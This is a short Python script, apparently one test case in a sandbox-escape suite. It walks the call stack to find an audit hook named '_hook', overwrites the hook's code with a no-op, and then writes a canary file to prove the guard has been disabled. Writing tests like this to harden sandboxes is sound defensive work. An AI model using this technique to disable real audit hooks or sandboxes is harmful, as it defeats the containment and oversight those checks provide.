"""hook: find the audit hook through frames and neuter it, then write outside."""

import os
import sys

from attacklib import *


def go():
    f = sys._getframe()
    while f.f_back:
        f = f.f_back
    for frame_globals in [f.f_globals]:
        for name, value in list(frame_globals.items()):
            if callable(value) and getattr(value, "__name__", "") == "_hook":
                value.__code__ = (lambda e, a: None).__code__
    open(os.path.join(CANARY, "hook1.txt"), "w").write("x")


attempt("frames hook disable", go)
